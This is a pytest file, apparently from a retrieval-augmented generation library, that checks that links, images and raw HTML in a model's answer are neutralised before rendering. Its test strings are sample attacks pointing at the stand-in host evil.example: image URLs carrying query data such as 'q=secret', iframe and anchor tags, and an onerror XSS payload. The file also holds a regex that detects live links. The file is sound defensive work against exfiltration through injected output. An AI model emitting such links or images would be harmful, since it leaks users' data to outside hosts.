"""Links and images in a model's answer are neutralised in the text itself, nested ones and raw
HTML included (issue 26, case 6): no reader of the Answer JSON renders a link or loads an image."""

from __future__ import annotations

import re

import pytest

from ragcore.safety.injection import defang_images, defang_links

# a Markdown link or image whose target is evil, or an HTML tag that loads or links it
LIVE = re.compile(r"\]\(\s*<?https?://evil|(?<!`)(?<!` )<\s*(?:img|a|iframe)\b[^`]*evil|^\s*\[[^\]]+\]:\s*http", re.I | re.M)


@pytest.mark.parametrize("text", [
    "See [![a](http://evil.example/i.png)](http://evil.example/z) now [1].",
    "[[nested] text](http://evil.example/z)",
    "Look <img src=http://evil.example/p?q=secret> here [1].",
    '<IMG SRC="http://evil.example/x" onerror="alert(1)">',
    '<a href="http://evil.example/z">the docs</a> [1]',
    "<iframe src='http://evil.example/'></iframe>",
    "Use the option [1].\n[1]: http://evil.example/x",
])
def test_model_links_and_images_are_dead(text: str) -> None:
    out = defang_links(text)
    assert not LIVE.search(out), out
    assert "evil.example" in out  # shown, as text


def test_raw_html_images_are_dead_in_every_answer() -> None:
    out = defang_images("Quoted: <img src=http://evil.example/p?q=1> and ![x](http://evil.example/y)")
    assert not LIVE.search(out) and "[image: x]" in out


def test_plain_text_and_citations_are_kept() -> None:
    text = "Sessions are stored in the database [1]. Use `<b>` for bold [2]."
    assert defang_links(text) == text
